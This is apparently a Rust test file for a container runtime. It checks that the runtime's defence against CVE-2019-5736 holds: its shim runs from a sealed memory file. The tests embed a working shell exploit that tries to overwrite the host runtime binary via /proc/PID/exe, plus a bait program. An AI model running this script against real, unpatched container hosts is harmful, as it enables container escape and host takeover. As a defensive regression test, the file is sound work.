//! CVE-2019-5736: a container makes whoever enters it execute `/proc/self/exe`, takes
//! hold of that program of the host by `/proc/PID/exe`, and overwrites it.
//!
//! The defence: what enters a container runs from a sealed memory file, which nobody
//! can write. (`gantry runtime` has its own, and its own test of this attack.)
//!
//! Seen to fail with the seals taken out of `sealed_memfd`. The attack alone fails even
//! then, since the kernel lets nobody write a program that runs, and each container's
//! shim runs this one for as long as the container does.

use std::os::fd::AsFd;

use rustix::fs::SealFlags;

use crate::harness::Engine;
use crate::run::wait_for;

/// Takes hold of each program that is not the container's, and tries to write it.
const ATTACK: &str = r#"
exec 2>/dev/null
echo ready >/tmp/ready
while :; do
    for exe in /proc/[0-9]*/exe; do
        [ "$exe" -ef /bin/busybox ] && continue
        {
            echo overwritten >/proc/self/fd/9 && echo written >/tmp/written
            echo held >/tmp/held
        } 9<"$exe"
    done
done
"#;

/// What the victim believes to be a program.
const BAIT: &str = "printf '#!/proc/self/exe\\n' >/bin/bait && chmod +x /bin/bait";

#[test]
fn what_enters_a_container_cannot_be_overwritten_from_there() {
    let engine = Engine::with_busybox();
    let words = format!("{BAIT}\n{ATTACK}");
    engine
        .docker(&["run", "-d", "--name", "evil", "busybox", "sh", "-c", &words])
        .ok();
    let there = |name: &str| {
        let look = format!("test -e {name}");
        engine.docker(&["exec", "evil", "sh", "-c", &look]).code == 0
    };
    wait_for(|| there("/tmp/ready"));
    // Until the shell has been quick enough once.
    for _ in 0..200 {
        engine.docker(&["exec", "evil", "bait"]);
        if there("/tmp/held") {
            break;
        }
    }
    assert!(there("/tmp/held"), "the attack has never come to its end");
    assert!(!there("/tmp/written"));
    engine.docker(&["exec", "evil", "true"]).ok();
}

#[test]
fn what_waits_beside_a_container_is_sealed() {
    let engine = Engine::with_busybox();
    if !engine.is_gantry() {
        return;
    }
    engine
        .docker(&["run", "-d", "--name", "one", "busybox", "sleep", "1000"])
        .ok();
    let pid = engine.inspect("one", "{{.State.Pid}}");
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("it runs");
    let parent = status.lines().find_map(|line| line.strip_prefix("PPid:"));
    let shim = format!("/proc/{}/exe", parent.expect("a parent").trim());
    let link = std::fs::read_link(&shim).expect("a program");
    assert!(link.to_string_lossy().starts_with("/memfd:"), "{link:?}");
    let program = std::fs::File::open(&shim).expect("it can be read");
    let seals = rustix::fs::fcntl_get_seals(program.as_fd()).expect("a file in memory");
    let wanted = SealFlags::SEAL | SealFlags::SHRINK | SealFlags::GROW | SealFlags::WRITE;
    assert!(seals.contains(wanted), "{seals:?}");
}
